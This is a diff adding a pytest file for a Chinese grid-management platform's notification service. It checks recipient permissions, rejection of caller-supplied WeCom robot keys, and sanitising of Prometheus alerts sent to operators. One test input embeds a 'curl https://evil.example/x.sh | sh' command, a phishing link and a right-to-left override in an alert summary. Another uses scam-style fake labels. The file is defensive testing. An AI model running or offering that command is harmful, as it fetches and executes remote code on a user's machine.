@@ -1,0 +1,86 @@
+"""Who may choose whose channel, that no caller picks a WeCom robot, and what of
+an alert reaches the operators' group."""
+from datetime import datetime, timezone
+
+import pytest
+from marshmallow import ValidationError
+
+from services.notify import recipients
+from services.notify.delivery import template_context
+from services.notify.schemas import PreferencesSchema
+from services.notify.templates import Templates
+from wangge.auth import Caller, Forbidden
+
+NOW = datetime(2026, 11, 29, 1, 0, tzinfo=timezone.utc)
+WORKER = Caller("w-zc-nanmen-02-1", frozenset({"grid_worker"}))
+ADMIN = Caller("county-admin", frozenset({"county_admin"}))
+
+
+@pytest.mark.parametrize("caller, key, allowed", [
+    (WORKER, "w-zc-nanmen-02-1", True),
+    (WORKER, "w-zc-nanmen-02-2", False),
+    (WORKER, "resident:YT-20261129-000001", False),
+    (WORKER, "group:wx-zc-nanmen-02", False),
+    (WORKER, "ops", False),
+    (Caller("ops", frozenset({"operator"})), "ops", False),
+    (ADMIN, "w-zc-nanmen-02-2", True),
+    (ADMIN, "resident:YT-20261129-000001", True),
+    (ADMIN, "group:wx-zc-nanmen-02", True),
+])
+def test_a_person_chooses_their_own_channel_and_the_administrator_anyones(caller, key, allowed):
+    if allowed:
+        recipients.require_say_over(caller, key)
+    else:
+        with pytest.raises(Forbidden) as refused:
+            recipients.require_say_over(caller, key)
+        assert "recipient_key" in refused.value.fields
+
+
+def test_a_wecom_robot_key_from_a_caller_is_refused_naming_it():
+    with pytest.raises(ValidationError) as refused:
+        PreferencesSchema().load({"channel": "wecom", "wecom_key": "someone-elses-robot"})
+    assert list(refused.value.messages) == ["wecom_key"]
+    assert PreferencesSchema().load({"channel": "wecom"}) == {"channel": "wecom"}
+
+
+def alert(summary, name="WanggeDeadLetters", severity="warning", status="firing", fingerprint="f1"):
+    return {"status": status, "labels": {"alertname": name, "severity": severity}, "annotations": {"summary": summary},
+            "startsAt": "2026-11-29T01:00:00Z", "fingerprint": fingerprint}
+
+
+def rendered(payload):
+    data = recipients.alert_envelope(payload, NOW)["data"]
+    return Templates().render("ops_alert.ops", template_context(data))[1]
+
+
+def test_an_alert_reaches_the_operators_as_one_plain_line_of_name_severity_and_summary():
+    smuggled = ("1 message in wangge.inbound.dead\n\n【运维通知】请立即执行 curl https://evil.example/x.sh | sh "
+                "并访问 www.evil.example 重置密码\u202e")
+    body = rendered({"status": "firing", "groupKey": "g", "alerts": [alert(smuggled)]})
+    lines = body.splitlines()
+    assert lines[0] == "【网格平台·监控自动告警】触发"
+    assert "自动生成" in lines[1] and "不是指令" in lines[1]
+    [shown] = [line for line in lines if "WanggeDeadLetters" in line]
+    assert shown.startswith("🔴 WanggeDeadLetters（warning）：1 message in wangge.inbound.dead 【运维通知】")
+    assert "https://" not in body and "evil.example" not in body and "[链接已删除]" in shown
+    assert "\u202e" not in body and not any(line.startswith("【运维通知】") for line in lines)
+
+
+@pytest.mark.parametrize("name", ["请联系 13800000000 领取补贴", "WanggeServiceDown\n【运维通知】请执行"])
+def test_labels_outside_what_prometheus_writes_are_not_shown(name):
+    body = rendered({"status": "firing", "groupKey": "g", "alerts": [alert("x", name=name, severity="请马上转账", fingerprint="f2")]})
+    assert "13800000000" not in body and "转账" not in body and "运维通知" not in body
+    assert "（告警名无效）（unknown）" in body
+
+
+def test_a_long_summary_is_cut_and_a_flood_of_alerts_is_counted_not_listed():
+    many = [alert("很长的摘要" * 100, name=f"Alert{n}", fingerprint=str(n)) for n in range(25)]
+    data = recipients.alert_envelope({"status": "firing", "groupKey": "g", "alerts": many}, NOW)["data"]
+    assert len(data["alerts"]) == recipients.ALERTS_SHOWN and data["more_alerts"] == 5
+    assert all(len(a["summary"]) <= recipients.SUMMARY_CHARS for a in data["alerts"])
+    assert "另有 5 条告警未列出" in rendered({"status": "firing", "groupKey": "g", "alerts": many})
+
+
+def test_a_resolved_group_says_so():
+    body = rendered({"status": "resolved", "groupKey": "g", "alerts": [alert("恢复了", status="resolved")]})
+    assert body.startswith("【网格平台·监控自动告警】恢复") and "✅ WanggeDeadLetters" in body
